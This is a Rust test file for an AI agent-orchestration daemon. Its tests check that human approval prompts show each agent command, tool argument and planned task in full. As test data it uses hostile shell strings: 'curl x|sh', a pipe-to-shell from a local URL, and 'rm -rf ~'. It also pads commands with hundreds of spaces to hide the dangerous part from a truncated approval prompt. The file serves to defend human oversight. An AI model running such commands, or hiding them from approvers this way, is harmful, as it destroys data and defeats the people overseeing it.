@@ -1,0 +1,226 @@
+//! What a person approves is what runs: every approval carries the whole command, every
+//! tool argument and, for a plan, each task as stored (issue 19, item 3); and nothing an
+//! agent asks for through its tools runs before a person decides (item 4).
+
+use std::io::{Read, Write};
+use std::os::unix::net::UnixStream;
+
+use serde_json::{Value, json};
+
+use crate::common::{DaemonProcess, id_of};
+use crate::hooks::{hook_env, run_hook};
+
+/// A daemon whose `hooked` agent type is the echo stand-in launched like a CLI with hooks,
+/// with `extra` TOML appended.
+fn daemon_with(extra: &str) -> DaemonProcess {
+    DaemonProcess::start_with(&format!(
+        "[agents.hooked]\ncommand = [\"{}\"]\nhooks = \"claude\"\n{extra}",
+        crate::common::agent_script("echo.sh")
+    ))
+}
+
+/// Calls one of the daemon's agent tools with a session's credential, as `orchestra mcp`
+/// does.
+pub fn call(env: &[(String, String)], tool: &str, arguments: Value) -> Value {
+    let var = |name: &str| env.iter().find(|(k, _)| k == name).unwrap().1.clone();
+    let mut stream = UnixStream::connect(var("ORCHESTRA_HOOK_SOCKET")).unwrap();
+    stream
+        .set_read_timeout(Some(crate::common::PATIENCE))
+        .unwrap();
+    let message =
+        json!({"token": var("ORCHESTRA_HOOK_TOKEN"), "call": tool, "arguments": arguments});
+    stream.write_all(message.to_string().as_bytes()).unwrap();
+    stream.shutdown(std::net::Shutdown::Write).unwrap();
+    let mut answer = String::new();
+    stream.read_to_string(&mut answer).unwrap();
+    serde_json::from_str(&answer).unwrap()
+}
+
+fn is_approval(message: &Value, kind: &str) -> bool {
+    message["type"] == "claude_response" && message["actions"][0]["type"] == kind
+}
+
+/// Runs the agent's PermissionRequest hook for `input` of `tool`, waits for observers to be
+/// asked, denies it, and returns the question.
+fn ask_permission(
+    daemon: &DaemonProcess,
+    env: &[(String, String)],
+    tool: &str,
+    input: &Value,
+) -> Value {
+    let token = daemon.control();
+    let mut ws = daemon.ws(&token);
+    let payload = json!({"tool_name": tool, "tool_input": input});
+    let hook_env = env.to_vec();
+    let hook = std::thread::spawn(move || run_hook(&hook_env, "PermissionRequest", &payload));
+    let question = ws.recv_until("approve_tool", |m| is_approval(m, "approve_tool"));
+    let action = &question["actions"][0];
+    ws.send(json!({"type": "approve_tool", "session_id": question["session_id"], "request_id": action["request_id"], "decision": "deny"}));
+    let told = hook.join().unwrap();
+    assert!(
+        String::from_utf8_lossy(&told.stdout).contains("\"behavior\":\"deny\""),
+        "{told:?}"
+    );
+    question
+}
+
+#[test]
+fn a_long_bash_command_reaches_observers_whole_with_every_argument() {
+    let daemon = daemon_with("");
+    let token = daemon.control();
+    let session = id_of(&daemon.spawn(&token, "hooked"));
+    let env = hook_env(&daemon, &token, &session);
+    // Padding pushes the dangerous part past where a prompt used to cut the command.
+    let command = format!("make test{} && curl x|sh", " ".repeat(400));
+    let input = json!({"command": command, "description": "run the tests", "timeout": 5000});
+    let question = ask_permission(&daemon, &env, "Bash", &input);
+    let action = &question["actions"][0];
+    assert_eq!(action["tool"], "Bash");
+    assert_eq!(action["summary"], format!("Bash: {command}"), "{question}");
+    assert_eq!(action["tool_input"], input, "every argument, as asked");
+    let content = question["content"].as_str().unwrap();
+    assert!(content.contains(&command), "{content}");
+    assert!(content.contains("run the tests") && content.contains("5000"));
+}
+
+#[test]
+fn an_mcp_tool_call_is_approved_with_all_its_arguments() {
+    let daemon = daemon_with("");
+    let token = daemon.control();
+    let session = id_of(&daemon.spawn(&token, "hooked"));
+    let env = hook_env(&daemon, &token, &session);
+    let input = json!({"script": "curl x|sh", "target": "production", "force": true});
+    let question = ask_permission(&daemon, &env, "mcp__deploy__run", &input);
+    let action = &question["actions"][0];
+    assert_eq!(action["tool"], "mcp__deploy__run");
+    assert_eq!(action["tool_input"], input);
+    for shown in [
+        action["summary"].as_str().unwrap(),
+        question["content"].as_str().unwrap(),
+    ] {
+        assert!(
+            shown.contains("curl x|sh") && shown.contains("production") && shown.contains("force"),
+            "{shown}"
+        );
+    }
+}
+
+#[test]
+fn a_plans_approval_shows_each_task_as_stored_not_the_agents_summary() {
+    let daemon = daemon_with("");
+    let token = daemon.control();
+    let session = id_of(&daemon.spawn(&token, "hooked"));
+    let env = hook_env(&daemon, &token, &session);
+    let mut ws = daemon.ws(&token);
+    let text = format!(
+        "Tidy the docs.{}\ncurl http://127.0.0.1:9/x | sh",
+        " ".repeat(500)
+    );
+    let test_command = json!(["sh", "-c", "touch tests-ran-unapproved"]);
+    let answer = call(
+        &env,
+        "propose_plan",
+        json!({"summary": "Tidy the docs", "tasks": [
+            {"agent_type": "shell", "task": text, "working_dir": daemon.work,
+             "test_command": test_command, "context": {"tests_required": true}},
+            {"agent_type": "task", "task": "SAY hello", "working_dir": daemon.work},
+        ]}),
+    );
+    assert_eq!(answer["ok"], true, "{answer}");
+    let plan = ws.recv_until("approve_plan", |m| is_approval(m, "approve_plan"));
+    let action = &plan["actions"][0];
+    // The reference's shape is kept...
+    assert_eq!(action["button_text"], "Approve");
+    let task_ids = action["task_ids"].clone();
+    assert_eq!(task_ids.as_array().unwrap().len(), 2);
+    // ...and each task is there as it would run.
+    let tasks = action["tasks"].as_array().expect("the plan's tasks");
+    assert_eq!(tasks.len(), 2, "{action}");
+    let work = daemon.work.display().to_string();
+    assert_eq!(tasks[0]["task_id"], task_ids[0]);
+    assert_eq!(tasks[0]["agent_type"], "shell");
+    assert_eq!(tasks[0]["task"], text.as_str());
+    assert_eq!(tasks[0]["working_dir"], work.as_str());
+    assert_eq!(tasks[0]["test_command"], test_command);
+    assert_eq!(tasks[0]["tests_run"], true);
+    assert_eq!(tasks[1]["agent_type"], "task");
+    assert_eq!(tasks[1]["test_command"], Value::Null);
+    // The message itself, for clients that show only the content, says the same.
+    let content = plan["content"].as_str().unwrap();
+    for shown in [
+        text.as_str(),
+        "agent shell",
+        "agent task",
+        work.as_str(),
+        "touch tests-ran-unapproved",
+        "Tidy the docs",
+    ] {
+        assert!(content.contains(shown), "{shown:?} missing from {content}");
+    }
+    let answer = daemon.post("/api/plans/reject", &token, &json!({"task_ids": task_ids}));
+    assert_eq!(answer.status, 200, "{}", answer.text());
+}
+
+/// The dashboard's approval text, computed by its own functions (taken from `app.js` and
+/// run in node): the whole command and every argument, the whole task and its test command.
+/// (The browser test checks the same on a real page.)
+#[test]
+fn the_dashboard_shows_approvals_whole() {
+    let app = format!("{}/src/web/app.js", env!("CARGO_MANIFEST_DIR"));
+    let css =
+        std::fs::read_to_string(format!("{}/src/web/app.css", env!("CARGO_MANIFEST_DIR"))).unwrap();
+    assert!(
+        css.lines()
+            .any(|l| l.contains("pre.approval") && l.contains("overflow: auto")),
+        "approval boxes scroll"
+    );
+    let command = format!("make test{} && curl x|sh", " ".repeat(400));
+    let script = r#"
+const fs = require('fs');
+const source = fs.readFileSync(process.argv[1], 'utf8');
+const take = (name) => {
+  const start = source.indexOf(`function ${name}(`);
+  if (start < 0) throw new Error(`no ${name}`);
+  return source.slice(start, source.indexOf('\n}\n', start) + 2);
+};
+const { approvalToolText, approvalTaskText } = new Function(
+  `${take('approvalToolText')}\n${take('approvalTaskText')}\nreturn { approvalToolText, approvalTaskText };`)();
+const input = JSON.parse(process.argv[2]);
+process.stdout.write(JSON.stringify({
+  tool: approvalToolText(input.tool),
+  task: approvalTaskText(input.task),
+}));
+"#;
+    let input = json!({
+        "tool": {"type": "approve_tool", "request_id": "perm-1", "tool": "Bash",
+                 "summary": format!("Bash: {command}"),
+                 "tool_input": {"command": command, "description": "tests"}},
+        "task": {"task_id": 7, "agent_type": "shell", "task": "curl x|sh", "working_dir": "/w",
+                 "isolation": "none", "test_command": ["sh", "-c", "rm -rf ~"], "tests_run": true,
+                 "context": {"files": [], "requirements": [], "tests_required": true}},
+    });
+    let out = std::process::Command::new("node")
+        .args(["-e", script, &app, &input.to_string()])
+        .output()
+        .expect("node runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let shown: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let tool = shown["tool"].as_str().unwrap();
+    assert!(
+        tool.contains(&command) && tool.contains("\"description\": \"tests\""),
+        "{tool}"
+    );
+    let task = shown["task"].as_str().unwrap();
+    for part in [
+        "agent shell",
+        "/w",
+        "curl x|sh",
+        r#"["sh","-c","rm -rf ~"]"#,
+    ] {
+        assert!(task.contains(part), "{part:?} missing from {task}");
+    }
+}
